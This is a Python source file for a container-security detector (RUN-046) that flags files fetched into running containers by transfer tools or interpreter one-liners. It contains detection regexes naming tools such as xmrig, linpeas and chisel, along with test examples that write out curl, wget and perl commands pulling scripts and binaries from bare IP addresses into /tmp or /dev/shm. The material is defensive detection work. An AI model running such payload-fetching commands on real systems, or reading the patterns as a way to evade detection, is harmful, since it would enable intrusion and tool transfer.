"""RUN-046: a file is fetched into a running container by a transfer tool or by an interpreter's one-liner.

Health checks, calls of an interface and whatever goes to the container itself without being kept are not meant. What leaves
the container is RUN-102's, what is run without being kept RUN-101's.
"""

from __future__ import annotations

import re

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict
from periderm.engines.runtime.peers import Scope, scope, scope_of_url
from periderm.engines.runtime.peers import host_of as _host
from periderm.engines.runtime.scene import HOST, runs, scene
from periderm.engines.runtime.situation import WRITABLE, Situation, called, code_readings, situation, tool_interest
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import EventFlag, EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_WEB = frozenset({"curl", "wget", "wget2", "aria2c", "axel", "fetch", "lwp-download", "httpie", "http", "xh", "curlie", "get"})
_COPY = frozenset({"scp", "sftp", "rsync", "tftp", "ftp", "lftp", "rcp", "dbclient", "smbclient", "ncftpget"})
_URL = re.compile(r"(?:https?|ftps?|sftp|tftp|scp|gopher)://[^\s'\"]+", re.IGNORECASE)
_REMOTE = re.compile(r"(?:[\w.-]+@)?(\[[0-9a-fA-F:]+\]|[\w-]+(?:\.[\w-]+)*):(?!//)(\S*)")
_SAVES = re.compile(
    r"-[a-zA-Z]*[oOJ]|--output(=.*)?|--remote-name(-all)?|--output-document(=.*)?|--output-dir(=.*)?|-P|--dir(=.*)?"
)
_NO_DOWNLOAD = ("--spider", "--head", "-I", "--upload-file", "-T", "--post", "--data", "-d", "-F", "--form")
_NO_DOWNLOAD_WGET = ("--spider", "--post", "--body", "--method")  # there -T, -d, -I and -F mean something else
_CODE = re.compile(
    r"urlretrieve|urlopen\(|requests\.get|LWP::Simple|getstore|open-uri|URI\.open|Net::HTTP\.get|file_get_contents\(.{0,3}https?:|"
    r"\bcopy\(.{0,3}https?:|https?['\"]?\)\.get\(|fetch\(.{0,3}https?:|socket\.http|HTTP::Tiny"
)
_KEEPS = re.compile(
    r"urlretrieve|getstore|\bopen\(|writeFile|createWriteStream|file_put_contents|\bcopy\(|\.write\(|IO\.binwrite"
)
_ODD_NAME = re.compile(
    r"\.(sh|elf|bin|py|pl|so|ko|exe|jar|out|x86_64|x86|arm\d?|mips|dll)$|/\.[^/]+$|(xmrig|miner|linpeas|chisel|frpc?)"
)


def _judge(context: Context) -> Verdict | None:
    if context.event.kind is not EventKind.EXEC or context.process.runtime:
        return None
    what = context.command
    if _WEB.intersection(called(context)) or context.process.exe.endswith(("/curl", "/wget")):
        found = _web(what, context)
    elif _COPY.intersection(called(context)):
        found = _copied(what)
    elif programs.interpreter(what.name) and not programs.script(what):
        found = _coded(context)
    else:
        return None
    if found is None:
        return None
    source, target, odd = found
    severity = _severity(context, source, odd)
    if severity is None:
        return None
    return Verdict(
        object=_host(source) or source,
        severity=severity,
        fill={"source": source},
        evidence={"source": source, "target": target, "situation": situation(context).value},
    )


def _web(what: programs.Command, context: Context) -> tuple[str, str, bool] | None:
    """Where it comes from, where it goes, and whether that is odd; None if nothing is kept or fetched."""
    arguments = what.arguments
    source = next((a for a in arguments if _URL.match(a)), "")
    if not source:
        plain = [
            a for a in arguments if not a.startswith("-") and "/" in a and not a.startswith("/") and "." in a.split("/")[0]
        ]
        source = plain[-1] if plain else ""
    wget = "wget" in called(context) or context.process.exe.endswith("/wget")
    if not source or any(a.startswith(_NO_DOWNLOAD_WGET if wget else _NO_DOWNLOAD) for a in arguments):
        return None
    target = _target(what, arguments)
    piped = context.process.stdout_pipe
    odd = target.startswith(WRITABLE) or "/." in target or bool(_ODD_NAME.search(target or source.split("?")[0]))
    if target in ("-", "/dev/null", "") and not (what.name in ("wget", "axel", "aria2c", "wget2") and target == ""):
        # Printed, not kept: noteworthy only from an address that has no name, outside.
        return (source, "-", False) if scope(_host(source)) is Scope.OUTSIDE and not piped else None
    return source, target or ".", odd


def _target(what: programs.Command, arguments: tuple[str, ...]) -> str:
    for index, argument in enumerate(arguments):
        if not _SAVES.fullmatch(argument) or (what.name.startswith("wget") and argument in ("-o", "-qo")):
            continue
        if "=" in argument:
            return argument.partition("=")[2]
        if argument in ("-O", "--remote-name", "-J", "-OJ", "-sO", "-LO", "-fsSLO", "-sLO") and not what.name.startswith(
            "wget"
        ):
            return "."
        return arguments[index + 1] if index + 1 < len(arguments) else "."
    return ""


def _copied(what: programs.Command) -> tuple[str, str, bool] | None:
    """scp, rsync and their kin with a remote source (uploads are RUN-102's)."""
    words = [a for a in what.arguments if not a.startswith("-")]
    if what.name in ("tftp", "ftp", "lftp", "sftp", "ncftpget", "smbclient"):
        gets = what.name != "tftp" or any(a in ("-g", "get") or (a.startswith("-") and "g" in a) for a in what.arguments)
        return (words[0], ".", False) if words and gets else None
    if len(words) < 2 or not (_REMOTE.fullmatch(words[-2]) or words[-2].startswith("rsync://")):
        return None
    target = words[-1]
    return words[-2], target, target.startswith(WRITABLE)


def _coded(context: Context) -> tuple[str, str, bool] | None:
    for text in code_readings(context):
        if _CODE.search(text) and (url := _URL.search(text)) is not None:
            kept = bool(_KEEPS.search(text))
            if kept or scope_of_url(url[0]) is Scope.OUTSIDE:
                return url[0].rstrip("'\")]"), "code", kept and ("/tmp/" in text or "/dev/shm" in text or "chmod" in text)
    return None


def _severity(context: Context, source: str, odd: bool) -> Severity | None:  # noqa: PLR0911 -- one return for each way out
    here, where = situation(context), scope_of_url(source)
    bare = scope(_host(source)) in (Scope.OUTSIDE, Scope.NEAR)  # an address without a name
    if here is Situation.INTRUDER:
        return Severity.HIGH
    if here is Situation.BUILD:
        return None
    if here is Situation.HOST:
        return Severity.LOW if odd and (bare or where is Scope.SELF) else None
    if odd:
        return Severity.LOW if here is Situation.START else Severity.MEDIUM
    if where is Scope.SELF:
        return None
    if here is Situation.SESSION:
        return Severity.MEDIUM if bare else Severity.LOW
    return Severity.LOW if bare or where is Scope.NAME else None


_SESSION = EventFlag.EXEC_SESSION

DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-046",
        title=Text("Load a file into a running container", "向运行中的容器传入文件"),
        message=Text("{process} fetches {source} into {subject}.", "{process} 正在把 {source} 取入 {subject}。"),
        severity=Severity.MEDIUM,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Look at what was fetched and by whom. What a container needs belongs into its image; let it reach "
            "only the addresses "
            "that it serves or uses, and leave transfer tools out.",
            "查明取入了什么、由谁取入。容器所需内容应放在镜像中；只允许其访问必要的地址，并移除传输工具。",
        ),
        techniques=("T1105",),
        behaviours=(46,),
        fires=(
            Example(
                scene(runs(2, 900, "/usr/bin/curl", "curl", "-so", "/tmp/x", "http://10.0.0.66/x", flags=_SESSION)), "curl -o"
            ),
            Example(scene(runs(2, 1, "/bin/busybox", "wget", "http://198.51.100.7/a.sh")), "busybox wget of a script"),
            Example(
                scene(runs(2, 1, "/usr/bin/wget", "wget", "-q", "-T", "1", "-O", "/tmp/x", "http://198.51.100.7/x")),
                "wget with a time limit, which is no upload as it is with curl",
            ),
            Example(
                scene(
                    runs(1, 0, "/usr/sbin/apache2", "apache2", at=0.0),
                    runs(2, 1, "/usr/bin/dash", "sh", "-c", "…"),
                    runs(3, 2, "/usr/bin/rsync", "rsync", "-a", "h.example::m/tool", "/srv/"),
                    runs(4, 2, "/usr/bin/scp", "scp", "a@h.example:tool", "/srv/"),
                ),
                "scp below a server's shell",
            ),
            Example(
                scene(
                    runs(
                        2,
                        900,
                        "/usr/bin/perl",
                        "perl",
                        "-MLWP::Simple",
                        "-e",
                        "getstore('http://h.example/x','/tmp/x')",
                        flags=_SESSION,
                    )
                ),
                "another interpreter",
            ),
            Example(
                scene(runs(2, 1, "/tmp/curl", "c", "-o", "y", "https://h.example/y", flags=EventFlag.UPPER)),
                "a curl that was brought",
            ),
            Example(
                scene(runs(20, 1, "/usr/bin/wget", "wget", "-O", "/dev/shm/k", "http://198.51.100.7/k", on=HOST)), "on the host"
            ),
        ),
        quiet=(
            Example(
                scene(runs(2, 900, "/usr/bin/curl", "curl", "-fs", "http://localhost/health", flags=_SESSION)), "a health check"
            ),
            Example(
                scene(runs(2, 900, "/usr/bin/wget", "wget", "-qO", "/dev/null", "http://127.0.0.1:9/", flags=_SESSION)),
                "another",
            ),
            Example(scene(runs(2, 1, "/usr/bin/curl", "curl", "-s", "http://api.shop.svc/items")), "an interface is called"),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/apt-get", "apt-get", "install", "ttf-mscorefonts-installer"),
                    runs(3, 2, "/usr/bin/wget", "wget", "-O", "/tmp/f.exe", "https://h.example/f.exe"),
                ),
                "a package fetches its own data",
            ),
            Example(scene(runs(2, 1, "/usr/bin/rsync", "rsync", "-a", "/data/", "/backup/")), "a local copy"),
            Example(
                scene(runs(20, 1, "/usr/bin/curl", "curl", "-O", "https://h.example/a.tgz", on=HOST)), "a person's download"
            ),
        ),
    ),
    interests=(
        tool_interest(_WEB | _COPY),
        Interest(kinds=(EventKind.EXEC,), args=(r"https?://", r"(?i)base64|b64"), text=(r"/(curl|wget)$",)),
    ),
    judge=_judge,
)
